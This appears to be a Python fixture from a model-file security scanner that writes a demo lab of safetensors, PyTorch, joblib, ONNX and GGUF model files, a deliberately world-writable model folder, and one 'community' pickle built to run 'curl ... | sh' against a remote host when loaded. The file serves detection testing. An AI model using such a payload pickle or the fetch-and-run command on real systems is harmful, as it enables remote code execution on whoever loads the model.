"""Demo models: a sharded Hugging Face-style language model, PyTorch checkpoints, a joblib
estimator, ONNX and GGUF exports, and one community pickle carrying a payload."""

from __future__ import annotations

from labwarden.checks.modelfile.samples import (
    gguf,
    npy,
    onnx_model,
    safetensors,
    shell_payload,
    sklearn_estimator,
    torch_zip,
)
from labwarden.demo.writer import Lab


def build(lab: Lab) -> None:
    """Write the demo's models."""
    rng = lab.rng
    fill = bytes(rng.randrange(256) for _ in range(4096))
    base = "models/protein-lm-v3"
    config = {
        "architectures": ["EsmForMaskedLM"],
        "hidden_size": 64,
        "num_hidden_layers": 2,
        "vocab_size": 33,
        "model_type": "esm",
    }
    lab.write_json(f"{base}/config.json", config, day=3)
    lab.write_json(f"{base}/generation_config.json", {"max_length": 1024}, day=3)
    lab.write_json(f"{base}/tokenizer_config.json", {"model_max_length": 1024}, day=3)
    lab.write_json(f"{base}/special_tokens_map.json", {"cls_token": "<cls>"}, day=3)
    lab.write(
        f"{base}/vocab.txt", "\n".join(["<cls>", "<pad>", "<eos>", *"LAGVSERTIDPKQNFYMHWC"]), day=3
    )
    index: dict[str, object] = {"metadata": {"total_size": 0}, "weight_map": {}}
    for shard in (1, 2):
        name = f"model-0000{shard}-of-00002.safetensors"
        tensors = {f"esm.layer.{shard}.{p}": (64, 64) for p in ("query", "key", "value")}
        lab.write(f"{base}/{name}", safetensors(tensors, fill), day=3)
        for t in tensors:
            index["weight_map"][t] = name  # type: ignore[index]
    lab.write_json(f"{base}/model.safetensors.index.json", index, day=3)
    lab.write(f"{base}/README.md", "# protein-lm-v3\nInternal protein language model.\n", day=3)

    base = "models/tox-classifier"
    lab.write_json(f"{base}/config.json", {"architectures": ["ToxNet"], "num_labels": 12}, day=5)
    lab.write(
        f"{base}/pytorch_model.bin",
        torch_zip([("fc1.weight", (32, 16)), ("fc1.bias", (32,)), ("out.weight", (12, 32))], fill),
        day=5,
        mode=0o666,
    )
    lab.facts.setdefault("folder_modes", {})[base] = 0o777
    lab.facts["world_writable_model_folder"] = base

    for epoch in (10, 20, 30):
        lab.write(
            f"models/checkpoints/docking-run-7/epoch_{epoch:03d}.pt",
            torch_zip([("encoder.weight", (16, 16)), ("head.weight", (4, 16))], fill[epoch:]),
            day=epoch // 2,
        )
    lab.write(
        "models/admet/admet-logreg.joblib",
        sklearn_estimator([round(rng.uniform(-1, 1), 4) for _ in range(16)]),
        day=8,
    )
    lab.write("models/exports/tox-classifier.onnx", onnx_model("pytorch"), day=9)
    lab.write(
        "models/exports/chem-assistant-q4.gguf",
        gguf(
            {
                "general.architecture": "llama",
                "general.name": "chem-assistant",
                "tokenizer.chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}",
            }
        ),
        day=9,
    )
    lab.write("models/embeddings/compound-embeddings.npy", npy([rng.random() for _ in range(256)]))
    # A "community" model downloaded by a researcher: loading it would run the command.
    command = "curl -s http://203.0.113.50/stage2.sh | sh"
    lab.write("models/community/docking-scorer.pkl", shell_payload(command), day=12)
    lab.facts["malicious_pickle"] = "models/community/docking-scorer.pkl"
